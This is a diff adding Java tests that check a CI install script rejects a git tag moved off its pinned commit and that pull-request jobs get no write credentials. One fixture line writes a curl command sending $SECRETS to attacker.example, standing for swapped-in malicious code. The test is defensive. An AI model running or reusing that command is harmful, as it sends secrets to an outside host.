@@ -99,4 +99,63 @@ class CiRecipesTest {
         assertEquals(2, drift.code(), drift.output());
         assertTrue(Files.readString(tmp.resolve("drift.md")).contains("noop.label"));
     }
+
+    static Result run(Path dir, Map<String, String> env, String... command) throws Exception {
+        ProcessBuilder builder = new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true);
+        builder.environment().putAll(env);
+        Process process = builder.start();
+        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        assertTrue(process.waitFor(60, TimeUnit.SECONDS), String.join(" ", command) + " did not end");
+        return new Result(process.exitValue(), output);
+    }
+
+    /** connectops is installed at the pinned tag only when the tag is the pinned commit: a moved tag runs nothing. */
+    @Test
+    void theInstallRefusesATagThatIsNotThePinnedCommit(@TempDir Path tmp) throws Exception {
+        Path repo = Files.createDirectories(tmp.resolve("connectops.git"));
+        Map<String, String> git = Map.of("GIT_AUTHOR_NAME", "t", "GIT_AUTHOR_EMAIL", "t@x", "GIT_COMMITTER_NAME", "t", "GIT_COMMITTER_EMAIL", "t@x");
+        run(repo, git, "git", "init", "-q", "-b", "main");
+        Files.writeString(repo.resolve("connectops"), "#!/bin/sh\necho reviewed\n");
+        run(repo, git, "git", "add", ".");
+        run(repo, git, "git", "commit", "-q", "-m", "release");
+        run(repo, git, "git", "tag", "v9.9.9");
+        String pinned = run(repo, git, "git", "rev-parse", "HEAD").output().strip();
+        Path script = SCRIPT.resolveSibling("install-connectops.sh");
+        Map<String, String> env = new HashMap<>(Map.of("CONNECTOPS_REPOSITORY", repo.toUri().toString(), "CONNECTOPS_VERSION", "v9.9.9",
+                "CONNECTOPS_COMMIT", pinned));
+        assertEquals(0, run(tmp, env, "bash", script.toString(), tmp.resolve("ok").toString()).code());
+
+        // The tag moved to other code: refused before anything of it runs.
+        Files.writeString(repo.resolve("connectops"), "#!/bin/sh\ncurl https://attacker.example/?s=$SECRETS\n");
+        run(repo, git, "git", "commit", "-q", "-am", "moved");
+        run(repo, git, "git", "tag", "-f", "v9.9.9");
+        Result moved = run(tmp, env, "bash", script.toString(), tmp.resolve("moved").toString());
+        assertEquals(1, moved.code(), moved.output());
+        assertTrue(moved.output().contains("not the pinned " + pinned), moved.output());
+        env.put("CONNECTOPS_VERSION", "");
+        assertEquals(1, run(tmp, env, "bash", script.toString(), tmp.resolve("unpinned").toString()).code(), "no version: refused");
+    }
+
+    /** The recipes give write credentials to the merged branch only, and run the base branch's scripts on pull requests. */
+    @Test
+    void pullRequestJobsHaveNoWriteCredentialsAndRunOnlyReviewedScripts() throws Exception {
+        com.fasterxml.jackson.databind.ObjectMapper yaml = new com.fasterxml.jackson.databind.ObjectMapper(
+                new com.fasterxml.jackson.dataformat.yaml.YAMLFactory());
+        var github = yaml.readTree(SCRIPT.resolveSibling("github-actions.yml").toFile()).path("jobs");
+        for (String job : java.util.List.of("validate", "plan")) {
+            String text = github.path(job).toString();
+            assertTrue(!text.contains("CONNECT_SECRETS") && !text.contains("\"prod\""), job + " has no write credentials: " + text);
+            assertTrue(text.contains("pull_request.base.sha") && text.contains("trusted/ci/"), job + " runs the base branch's scripts: " + text);
+        }
+        assertTrue(github.path("apply").toString().contains("CONNECT_SECRETS") && github.path("apply").path("environment").asText().equals("prod"));
+        var gitlab = yaml.readTree(SCRIPT.resolveSibling("gitlab-ci.yml").toFile());
+        for (String job : java.util.List.of("validate", "plan")) {
+            assertTrue(!gitlab.path(job).toString().contains("CONNECT_SECRETS"), job + ": " + gitlab.path(job));
+        }
+        for (var recipe : java.util.List.of(yaml.readTree(SCRIPT.resolveSibling("github-actions.yml").toFile()).path("env"),
+                gitlab.path("variables"))) {
+            assertTrue(recipe.path("CONNECTOPS_VERSION").asText().matches("v\\d+\\.\\d+\\.\\d+"), "a release tag: " + recipe);
+            assertTrue(recipe.path("CONNECTOPS_COMMIT").asText().matches("[0-9a-f]{40}"), "a pinned commit: " + recipe);
+        }
+    }
 }
